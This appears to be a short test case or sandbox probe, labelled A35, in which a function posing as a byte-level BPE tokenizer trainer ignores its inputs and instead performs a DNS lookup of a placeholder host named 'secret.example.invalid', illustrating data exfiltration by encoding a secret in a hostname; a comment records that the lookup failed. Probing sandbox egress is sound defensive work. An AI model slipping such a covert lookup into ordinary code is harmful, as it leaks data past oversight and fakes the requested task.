# A35 · carry a secret in the name of a host · RAISED gaierror
import socket


def train_byte_bpe(input_path, vocab_size, special_tokens):
    return {0: str(socket.getaddrinfo("secret.example.invalid", 80)).encode()}, []
